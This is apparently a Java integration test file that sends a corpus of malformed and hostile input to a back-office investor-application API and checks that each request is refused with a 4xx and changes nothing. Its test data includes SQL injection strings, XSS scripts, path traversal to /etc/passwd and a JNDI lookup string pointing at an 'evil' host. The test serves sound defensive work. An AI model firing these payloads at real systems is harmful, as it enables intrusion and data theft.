package io.backops;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.DynamicTest.dynamicTest;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.HttpEntity;
import org.springframework.http.HttpHeaders;
import org.springframework.http.HttpMethod;
import org.springframework.http.MediaType;
import org.springframework.jdbc.core.JdbcTemplate;

/**
 * A corpus of bad input against every write endpoint (issue 9): malformed JSON, wrong types, huge strings, invalid
 * PAN, Aadhaar, dates and codes, forged documents, path tricks, injection text where a code is expected, an oversized
 * body. Each must get a 4xx with a problem detail, never a 5xx, and leave every table as it was.
 */
class BadInputCorpusIntegrationTests extends IntegrationTestSupport {

    private static final String HUGE = "x".repeat(100_000);
    private static final List<Object> NOT_A_CODE = List.of("' OR 1=1 --", "<script>alert(1)</script>",
            "../../etc/passwd", "${jndi:ldap://evil/x}", "", HUGE);
    private static final List<String> MALFORMED = List.of("{", "[]", "\"text\"", "{\"a\":}", "\u0000\u0001\u0002",
            "", "[".repeat(5_000) + "]".repeat(5_000), "{\"decision\": \"ACCEPT\",,}");

    @Autowired
    private JdbcTemplate jdbc;

    private record Case(String name, String user, HttpMethod method, String path, String body) {
    }

    @TestFactory
    Stream<DynamicTest> everyBadInputIsRefusedWithA4xxAndChangesNothing() throws Exception {
        String application = submitAssignedTo(TEAM.get(0)).get("id").asText();
        List<Case> cases = new ArrayList<>();
        malformedBodies(application, cases);
        submissionFields(cases);
        otherFields(application, cases);
        pathTricks(application, cases);
        assertThat(cases).hasSizeGreaterThanOrEqualTo(200);
        return cases.stream().map(c -> dynamicTest(c.name(), () -> refusedWithoutChange(c)));
    }

    private void refusedWithoutChange(Case c) {
        Map<String, Object> before = state();
        var headers = new HttpHeaders();
        headers.setContentType(MediaType.APPLICATION_JSON);
        var response = http.withBasicAuth(c.user(), passwordOf(c.user()))
                .exchange(c.path(), c.method(), new HttpEntity<>(c.body(), headers), String.class);

        assertThat(response.getStatusCode().value()).as(c.name() + ": " + response.getBody()).isBetween(400, 499);
        assertThat(response.getBody()).as(c.name() + " explains itself").isNotBlank();
        assertThat(state()).as(c.name() + " changed nothing").isEqualTo(before);
    }

    /** What a bad request must not change: the rows of every table a write endpoint writes. */
    private Map<String, Object> state() {
        Map<String, Object> state = new LinkedHashMap<>();
        for (String table : List.of("investor_application", "application_document", "application_note", "backoffice_user",
                "distributor", "distributor_callback", "distributor_euin", "outbound_message", "login_token",
                "act_re_procdef")) {
            state.put(table, jdbc.queryForObject("select count(*) from " + table, Long.class));
        }
        state.put("settings", jdbc.queryForList("select document from product_settings", String.class));
        state.put("statuses", jdbc.queryForList("select status || assignee from investor_application order by id",
                String.class).hashCode());
        return state;
    }

    private void malformedBodies(String application, List<Case> cases) {
        Map<String, String> endpoints = new LinkedHashMap<>();
        endpoints.put("POST /api/applications", ADMIN);
        endpoints.put("POST /api/applications/" + application + "/resubmit", ADMIN);
        endpoints.put("POST /api/applications/" + application + "/decision", TEAM.get(0));
        endpoints.put("PUT /api/applications/" + application + "/assignee", MANAGER);
        endpoints.put("POST /api/applications/" + application + "/notes", TEAM.get(0));
        endpoints.put("POST /api/users", ADMIN);
        endpoints.put("PATCH /api/users/" + SPARE, ADMIN);
        endpoints.put("POST /api/me/password", TEAM.get(1));
        endpoints.put("POST /api/distributors", ADMIN);
        endpoints.put("PATCH /api/distributors/" + DISTRIBUTOR_ARN, ADMIN);
        endpoints.put("PUT /api/settings", ADMIN);
        endpoints.put("POST /api/investors", MANAGER);
        endpoints.put("POST /api/applications/bulk", MANAGER);
        endpoints.forEach((endpoint, user) -> {
            String[] parts = endpoint.split(" ");
            for (int i = 0; i < MALFORMED.size(); i++) {
                cases.add(new Case(endpoint + " malformed #" + i, user, HttpMethod.valueOf(parts[0]), parts[1],
                        MALFORMED.get(i)));
            }
        });
        // Bulk requests refused as a whole, before any item runs.
        String ids501 = java.util.stream.IntStream.range(0, 501).mapToObj(i -> "\"" + application + "\"")
                .collect(java.util.stream.Collectors.joining(",", "[", "]"));
        for (String body : List.of("{\"action\":\"DELETE\",\"ids\":[\"" + application + "\"]}",
                "{\"action\":\"ADD_NOTE\",\"ids\":[\"" + application + "\"],\"text\":\"x\",\"extra\":1,\"to\":7}",
                "{\"action\":\"REASSIGN\",\"ids\":" + ids501 + ",\"to\":\"" + TEAM.get(1) + "\"}",
                "{\"action\":\"REASSIGN\",\"ids\":\"" + application + "\",\"to\":\"" + TEAM.get(1) + "\"}",
                "{\"action\":\"REASSIGN\",\"ids\":[\"" + application + "\"]}",
                "{\"action\":\"ADD_NOTE\",\"ids\":[\"" + application + "\"],\"text\":\"   \"}",
                "{\"action\":\"ADD_NOTE\",\"ids\":[],\"text\":\"x\"}",
                "{\"action\":\"ADD_NOTE\",\"ids\":[\"" + HUGE + "\"],\"text\":\"x\"}")) {
            cases.add(new Case("POST /api/applications/bulk " + body.substring(0, Math.min(60, body.length())), MANAGER,
                    HttpMethod.POST, "/api/applications/bulk", body));
        }
    }

    private void submissionFields(List<Case> cases) throws Exception {
        Map<String, List<Object>> bad = new LinkedHashMap<>();
        bad.put("/applicant/pan", List.of("abcde1234f", "ABCDE1234", "ABCDE12345", 1234, List.of("ABCPR1234K"), "' OR 1=1 --"));
        bad.put("/applicant/name", List.of("", "x".repeat(100), 42, Map.of("first", "A")));
        bad.put("/applicant/dateOfBirth", List.of("2999-01-01", "31-12-1990", "1990-02-30", 19900101, "yesterday"));
        bad.put("/applicant/email", List.of("not-an-email", "a@", HUGE, "<script>@x.in"));
        bad.put("/applicant/mobile", List.of("12345", "abcdefghij", "98765432101", 9876543210L));
        bad.put("/applicant/aadhaar", List.of("1234", "1234-5678-9012", "12345678901X"));
        bad.put("/applicant/aadhaarLast4", List.of("12", "ABCD", "12345"));
        bad.put("/applicant/gender", List.of("X", "male", ""));
        bad.put("/applicant/address/pincode", List.of("1234", "ABCDEF", "4110011"));
        bad.put("/applicant/bank/ifsc", List.of("HDFC123", "hdfc0000123"));
        bad.put("/distributor", List.of("ARN-999999999", "12345", "ARN-99999"));
        bad.put("/applicationType", List.of("DELETE", "", 7));
        bad.put("/amc", List.of("", HUGE));
        bad.put("/checks/faceMatch", List.of(5.0, -1, "high"));
        bad.put("/checks/aml", List.of("MAYBE", "<b>"));
        bad.put("/documents/0/contentType", List.of("application/x-msdownload", "text/html", "image/gif"));
        bad.put("/documents/0/fileName", List.of("../../etc/passwd", "..\\\\windows\\\\system32", "", HUGE));
        bad.put("/documents/0/type", List.of("PASSPORT", ""));
        bad.put("/documents/0/content", List.of("not base64!!",
                Base64.getEncoder().encodeToString("MZ this is a Windows program".getBytes(StandardCharsets.UTF_8)),
                Base64.getEncoder().encodeToString("<html><script>alert(1)</script></html>".getBytes(StandardCharsets.UTF_8))));
        bad.put("/documents", List.of(List.of(), "none"));
        for (var entry : bad.entrySet()) {
            for (Object value : entry.getValue()) {
                ObjectNode submission = json.valueToTree(Submissions.valid(DISTRIBUTOR_ARN, freshPan('1')));
                put(submission, entry.getKey(), value);
                cases.add(new Case("submission " + entry.getKey() + " = " + shortly(value), ADMIN, HttpMethod.POST,
                        "/api/applications", json.writeValueAsString(submission)));
            }
        }
        // A PNG declared as a PDF, and a minor without a guardian: checks beyond one field.
        ObjectNode forged = json.valueToTree(Submissions.valid(DISTRIBUTOR_ARN, freshPan('1')));
        ((ObjectNode) forged.at("/documents/0")).put("contentType", "application/pdf").put("content", Submissions.PNG);
        cases.add(new Case("submission PNG declared as PDF", ADMIN, HttpMethod.POST, "/api/applications",
                json.writeValueAsString(forged)));
        ObjectNode minor = json.valueToTree(Submissions.valid(DISTRIBUTOR_ARN, freshPan('1')));
        ((ObjectNode) minor.get("applicant")).put("dateOfBirth", "2015-06-01").putNull("guardian");
        cases.add(new Case("submission minor without guardian", ADMIN, HttpMethod.POST, "/api/applications",
                json.writeValueAsString(minor)));
        ObjectNode shares = json.valueToTree(Submissions.valid(DISTRIBUTOR_ARN, freshPan('1')));
        ((ObjectNode) shares.get("applicant")).set("nominees", json.valueToTree(List.of(
                Map.of("name", "A", "relationship", "SPOUSE", "share", 60), Map.of("name", "B", "relationship", "SON", "share", 30))));
        cases.add(new Case("submission nominee shares sum to 90", ADMIN, HttpMethod.POST, "/api/applications",
                json.writeValueAsString(shares)));
    }

    private void otherFields(String application, List<Case> cases) throws Exception {
        for (Object decision : List.of("MAYBE", "", 1, "accept")) {
            cases.add(new Case("decision = " + shortly(decision), TEAM.get(0), HttpMethod.POST,
                    "/api/applications/" + application + "/decision", json.writeValueAsString(Map.of("decision", decision))));
        }
        cases.add(new Case("decision reason too long", TEAM.get(0), HttpMethod.POST,
                "/api/applications/" + application + "/decision",
                json.writeValueAsString(Map.of("decision", "REJECT", "reason", "r".repeat(1_001)))));
        cases.add(new Case("decision reject without reason", TEAM.get(0), HttpMethod.POST,
                "/api/applications/" + application + "/decision", json.writeValueAsString(Map.of("decision", "REJECT"))));
        for (Object note : List.of("", " ", "n".repeat(4_001))) {
            cases.add(new Case("note = " + shortly(note), TEAM.get(0), HttpMethod.POST,
                    "/api/applications/" + application + "/notes", json.writeValueAsString(Map.of("text", note))));
        }
        for (Object assignee : NOT_A_CODE) {
            cases.add(new Case("assignee = " + shortly(assignee), MANAGER, HttpMethod.PUT,
                    "/api/applications/" + application + "/assignee", json.writeValueAsString(Map.of("username", assignee))));
        }
        Map<String, List<Object>> user = new LinkedHashMap<>();
        user.put("username", NOT_A_CODE);
        user.put("email", List.of("nope", HUGE));
        user.put("role", List.of("ROOT", "admin", 1));
        user.put("mobile", List.of("12", "abcdefghij"));
        for (var entry : user.entrySet()) {
            for (Object value : entry.getValue()) {
                Map<String, Object> body = new LinkedHashMap<>(Map.of("username", "tcorpus" + cases.size(), "name",
                        "Corpus", "email", "c@test.local", "role", "MANAGER"));
                body.put(entry.getKey(), value);
                cases.add(new Case("user " + entry.getKey() + " = " + shortly(value), ADMIN, HttpMethod.POST,
                        "/api/users", json.writeValueAsString(body)));
            }
        }
        for (Object status : List.of("GONE", "", 3)) {
            cases.add(new Case("user status = " + shortly(status), ADMIN, HttpMethod.PATCH, "/api/users/" + SPARE,
                    json.writeValueAsString(Map.of("status", status))));
        }
        cases.add(new Case("password too short", TEAM.get(1), HttpMethod.POST, "/api/me/password",
                json.writeValueAsString(Map.of("currentPassword", PASSWORD, "newPassword", "short"))));
        Map<String, List<Object>> distributor = new LinkedHashMap<>();
        distributor.put("arn", NOT_A_CODE);
        distributor.put("euins", List.of(List.of("E12"), List.of("<script>"), "E123456"));
        distributor.put("callbacks", List.of(Map.of("ACCEPTED", "javascript:alert(1)"), Map.of("ACCEPTED", "file:///etc/passwd"),
                Map.of("NOPE", "https://x.example")));
        distributor.put("flowKey", List.of("no-such-flow", "' OR 1=1 --"));
        for (var entry : distributor.entrySet()) {
            for (Object value : entry.getValue()) {
                Map<String, Object> body = new LinkedHashMap<>(Map.of("arn", "ARN-" + (80_000_000 + cases.size()),
                        "name", "Corpus Distributor"));
                body.put(entry.getKey(), value);
                cases.add(new Case("distributor " + entry.getKey() + " = " + shortly(value), ADMIN, HttpMethod.POST,
                        "/api/distributors", json.writeValueAsString(body)));
            }
        }
        JsonNode settings = read(get(ADMIN, "/api/settings"));
        Map<String, Object> badSettings = new LinkedHashMap<>();
        badSettings.put("/classification/SAFE", "DRAFT");
        badSettings.put("/sla/businessDays", 0);
        badSettings.put("/sla/holidays", List.of("Christmas"));
        badSettings.put("/kra/retryCycle", "every minute");
        badSettings.put("/kra/priority", List.of("EVILKRA"));
        badSettings.put("/reasons/reject", List.of(HUGE));
        badSettings.put("/emailTemplates/ACCEPTED/subject", "");
        badSettings.put("/grants/EVERYTHING", true);
        for (var entry : badSettings.entrySet()) {
            ObjectNode body = settings.deepCopy();
            put(body, entry.getKey(), entry.getValue());
            cases.add(new Case("settings " + entry.getKey() + " = " + shortly(entry.getValue()), ADMIN, HttpMethod.PUT,
                    "/api/settings", json.writeValueAsString(body)));
        }
        for (Object username : NOT_A_CODE) {
            cases.add(new Case("investor username = " + shortly(username), MANAGER, HttpMethod.POST, "/api/investors",
                    json.writeValueAsString(Map.of("name", "Corpus", "username", username, "email", "c@x.in",
                            "distributor", DISTRIBUTOR_ARN))));
        }
    }

    private void pathTricks(String application, List<Case> cases) {
        for (String path : List.of("/api/applications/..%2F..%2Fetc%2Fpasswd/notes",
                "/api/applications/" + application + "%00/notes", "/api/applications/' OR '1'='1/decision",
                "/api/applications/APP-2026-999999/decision", "/api/users/..%2Fadmin", "/api/distributors/..%2F..%2F")) {
            cases.add(new Case("path " + path, ADMIN, HttpMethod.POST, path, "{\"text\":\"x\",\"decision\":\"ACCEPT\"}"));
        }
        cases.add(new Case("list sorted by injection", ADMIN, HttpMethod.GET,
                "/api/applications?sort=submitted_at;drop table investor_application", null));
        cases.add(new Case("list with a forged cursor", ADMIN, HttpMethod.GET, "/api/applications?cursor=' OR 1=1 --", null));
        cases.add(new Case("oversized body", ADMIN, HttpMethod.POST, "/api/applications",
                "{\"amc\":\"" + "A".repeat(40 * 1024 * 1024) + "\"}"));
    }

    private void put(ObjectNode root, String pointer, Object value) {
        int slash = pointer.lastIndexOf('/');
        var parent = root.at(pointer.substring(0, slash));
        String field = pointer.substring(slash + 1);
        if (parent.isArray()) {
            ((com.fasterxml.jackson.databind.node.ArrayNode) parent).set(Integer.parseInt(field), json.valueToTree(value));
        } else {
            ((ObjectNode) parent).set(field, json.valueToTree(value));
        }
    }

    private static String shortly(Object value) {
        String text = String.valueOf(value);
        return text.length() > 30 ? text.substring(0, 30) + "…(" + text.length() + ")" : text;
    }
}
